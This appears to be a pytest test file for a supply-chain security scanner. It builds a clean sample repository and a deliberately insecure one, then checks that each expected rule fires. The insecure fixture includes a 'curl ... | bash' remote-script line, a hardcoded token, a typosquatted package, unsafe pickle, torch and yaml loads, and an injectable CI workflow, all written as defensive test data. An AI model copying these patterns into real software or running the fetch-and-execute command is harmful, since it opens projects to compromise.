"""Whole repositories, scanned as users scan them: a good one, a bad one, and what the installed packages say."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.checks.supply_chain.advisories import imported
from tests.checks.supply_chain.files import COMMIT, DIGEST, file
from tests.checks.supply_chain.loading import notebook
from violet.policy import BY_CHOICE


def scan(path: Path, *arguments: str, intel: str = "") -> tuple[int, dict[str, Any]]:
    """The exit code and the report of ``violet scan PATH --format json``, in a process of its own."""
    environment = {**os.environ, "VIOLET_INTEL_DIRECTORY": intel or str(path / "nothing-imported")}
    command = [sys.executable, "-c", "import sys; from violet.faces.cli.main import entry; sys.exit(entry())"]
    ended = subprocess.run(
        [*command, "scan", str(path), "--isolated", "--format", "json", *arguments],
        capture_output=True, text=True, check=False, env=environment,
    )  # fmt: skip
    assert ended.stderr == ""
    return ended.returncode, json.loads(ended.stdout)


def good(root: Path) -> Path:
    """A small project as its maintainers would be proud of it."""
    file(root, "README.md", "# acme-vision", "", "    pip install acme-vision")
    file(root, "LICENSE", "Apache License 2.0")
    file(
        root,
        "pyproject.toml",
        "[build-system]",
        'requires = ["hatchling>=1.26"]',
        'build-backend = "hatchling.build"',
        "[project]",
        'name = "acme-vision"',
        'version = "1.0"',
        'requires-python = ">=3.12"',
        'dependencies = ["torch>=2.6", "transformers>=4.50", "safetensors", "pyyaml>=6.0.2"]',
        "[dependency-groups]",
        'dev = ["pytest", "ruff>=0.14"]',
    )
    packages = ("torch", "2.9.0"), ("transformers", "4.57.0"), ("safetensors", "0.6.2"), ("pyyaml", "6.0.3")
    lock = ["version = 1", 'requires-python = ">=3.12"', "[[package]]", 'name = "acme-vision"', 'version = "1.0"',
            'source = { editable = "." }']  # fmt: skip
    for name, version in packages:
        lock += ["[[package]]", f'name = "{name}"', f'version = "{version}"',
                 'source = { registry = "https://pypi.org/simple" }',
                 f'wheels = [{{ url = "https://x/{name}.whl", hash = "{DIGEST}", size = 1 }}]']  # fmt: skip
    file(root, "uv.lock", *lock)
    file(
        root,
        "src/acme_vision/train.py",
        '"""Training."""',
        "import tarfile",
        "import torch",
        "import yaml",
        "from safetensors.torch import load_file",
        "from transformers import AutoModel",
        f'REVISION = "{COMMIT}"',
        "def load(path, name='org/model'):",
        "    with open('config.yaml') as f:",
        "        config = yaml.safe_load(f)",
        "    state = torch.load(path, map_location='cpu', weights_only=True)",
        "    other = torch.load(path)",
        "    model = AutoModel.from_pretrained('org/model', revision=REVISION)",
        "    with tarfile.open('data.tar') as archive:",
        "        archive.extractall('data', filter='data')",
        "    return load_file('model.safetensors'), model, state, other, config",
    )
    file(root, "tests/test_train.py", "from acme_vision.train import load", "def test(): assert load")
    notebook(root, "import torch\n", "x = torch.load('m.pt', weights_only=True)\n!pip install acme-vision==1.0\n")
    file(
        root,
        "Dockerfile",
        "# syntax=docker/dockerfile:1",
        f"FROM python:3.12-slim@{DIGEST}",
        "RUN --mount=type=secret,id=token useradd --system app && \\",
        "    pip install --no-cache-dir --require-hashes -r requirements.txt",
        "COPY src /app",
        "USER app",
        'CMD ["python", "-m", "acme_vision"]',
    )
    file(root, "requirements.txt", *(f"{name}=={version} --hash={DIGEST}" for name, version in packages))
    file(
        root,
        ".github/workflows/ci.yml",
        "name: ci",
        "on: [push, pull_request]",
        "permissions:",
        "  contents: read",
        "jobs:",
        "  test:",
        "    runs-on: ubuntu-latest",
        "    env: {HF_TOKEN: '${{ secrets.HF_TOKEN }}'}",
        "    steps:",
        "      - uses: actions/checkout@v5",
        f"      - uses: astral-sh/setup-uv@{COMMIT}  # v6",
        "      - run: uv sync --locked && uv run pytest",
    )
    file(root, ".gitlab-ci.yml", "test:", f"  image: python:3.12@{DIGEST}", "  script:", "    - uv run pytest")
    file(root, "compose.yml", "services:", "  web:", f"    image: acme/web@{DIGEST}", '    user: "1000"')
    return root


def bad(root: Path) -> Path:
    """The same project with a mistake in every place."""
    file(
        root,
        "requirements.txt",
        "--extra-index-url https://pypi.acme.example/simple",
        "torch==2.5.1",
        "tensorfow",
        "ultralytics==8.3.41",
        "acme-features==1.0",
        f"numpy==2.1.0 --hash={DIGEST}",
    )
    file(root, "uv.toml", "[[index]]", 'url = "http://pypi.acme.example/simple"')
    file(
        root,
        "train.py",
        "import pickle, tarfile, torch, yaml, keras, urllib.request",
        "from transformers import AutoModel",
        "from langchain_community.vectorstores import FAISS",
        "def main(path):",
        "    urllib.request.urlretrieve('http://data.example.org/train.tar', path)",
        "    tarfile.open(path).extractall()",
        "    model = AutoModel.from_pretrained('org/model', trust_remote_code=True)",
        "    state = torch.load(path, weights_only=False)",
        "    config = yaml.load(open('c.yaml'), Loader=yaml.Loader)",
        "    keras.models.load_model(path, safe_mode=False)",
        "    FAISS.load_local(path, None, allow_dangerous_deserialization=True)",
        "    return pickle.load(open(path, 'rb'))",
    )
    file(
        root,
        "Dockerfile",
        "FROM pytorch/pytorch:latest",
        "ENV HF_TOKEN=q7Zk2mP0xW",
        "RUN curl -s http://203.0.113.5/setup | bash",
        'CMD ["python", "serve.py"]',
    )
    file(
        root,
        ".github/workflows/ci.yml",
        "on: pull_request_target",
        "permissions: write-all",
        "jobs:",
        "  a:",
        "    runs-on: ubuntu-latest",
        "    steps:",
        "      - uses: tj-actions/changed-files@v44",
        "      - run: echo ${{ github.event.pull_request.title }}",
    )
    return root


@pytest.fixture(scope="module")
def advisories(tmp_path_factory: pytest.TempPathFactory) -> str:
    known = os.environ.get("VIOLET_INTEL_DIRECTORY", "")
    made = imported(tmp_path_factory.mktemp("advisories"))
    os.environ["VIOLET_INTEL_DIRECTORY"] = known
    return made


def test_a_good_repository_gives_nothing_at_all(tmp_path: Path, advisories: str) -> None:
    code, report = scan(good(tmp_path), intel=advisories)
    assert report["findings"] == []
    assert report["skipped"] == []
    assert code == 0


def test_without_advisories_it_is_said_and_the_exit_code_stays(tmp_path: Path) -> None:
    code, report = scan(good(tmp_path))
    assert code == 0
    assert {skipped["what"] for skipped in report["skipped"]} == {"no advisories"}
    assert "no advisories" in BY_CHOICE


EXPECTED = {
    "supply_chain/dangerous-deserialization-allowed": "medium",
    "supply_chain/dependency-confusion": "medium",
    "supply_chain/excessive-permissions": "medium",
    "supply_chain/image-runs-as-root": "low",
    "supply_chain/insecure-index": "high",
    "supply_chain/lookalike-package": "medium",
    "supply_chain/malicious-package": "critical",
    "supply_chain/package-source": "medium",
    "supply_chain/plain-http-download": "medium",
    "supply_chain/remote-script-execution": "high",
    "supply_chain/secret-in-build": "medium",
    "supply_chain/trust-remote-code": "medium",
    "supply_chain/unfiltered-extraction": "medium",
    "supply_chain/unhashed-dependency": "medium",
    "supply_chain/unpinned-action": "medium",
    "supply_chain/unpinned-base-image": "medium",
    "supply_chain/unpinned-dependency": "low",
    "supply_chain/unpinned-hub-revision": "low",
    "supply_chain/unsafe-keras-load": "medium",
    "supply_chain/unsafe-pickle-load": "medium",
    "supply_chain/unsafe-torch-load": "medium",
    "supply_chain/unsafe-yaml-load": "medium",
    "supply_chain/vulnerable-dependency": "high",
    "supply_chain/workflow-injection": "high",
}


def test_a_bad_repository(tmp_path: Path, advisories: str) -> None:
    code, report = scan(bad(tmp_path), intel=advisories)
    assert code == 1
    found = [f for f in report["findings"] if f["rule"].startswith("supply_chain/")]
    assert {f["rule"]: f["severity"] for f in found} == EXPECTED
    assert len(found) == len(EXPECTED), "each mistake is told once"
    for finding in found:
        assert finding["line"]
        assert finding["fix"]


def test_the_configuration_names_the_advisories(tmp_path: Path, advisories: str) -> None:
    root = file(tmp_path, "project/requirements.txt", "torch==2.5.1").parent
    configuration = file(tmp_path, "violet.toml", "[intel]", f'directory = "{advisories}"')
    environment = {name: value for name, value in os.environ.items() if name != "VIOLET_INTEL_DIRECTORY"}
    command = [sys.executable, "-c", "import sys; from violet.faces.cli.main import entry; sys.exit(entry())"]
    for target in (root, root / "requirements.txt"):  # a single file is read by a worker that is there already
        ended = subprocess.run(
            [*command, "scan", str(target), "--config", str(configuration), "--format", "json"],
            capture_output=True, text=True, check=False, env=environment,
        )  # fmt: skip
        rules = {finding["rule"] for finding in json.loads(ended.stdout)["findings"]}
        assert "supply_chain/vulnerable-dependency" in rules, target


def test_fingerprints_do_not_move_with_lines(tmp_path: Path) -> None:
    _, before = scan(bad(tmp_path))
    text = (tmp_path / "train.py").read_text()
    (tmp_path / "train.py").write_text("# one more line\n\n" + text)
    _, after = scan(tmp_path)
    assert {f["fingerprint"] for f in before["findings"]} == {f["fingerprint"] for f in after["findings"]}
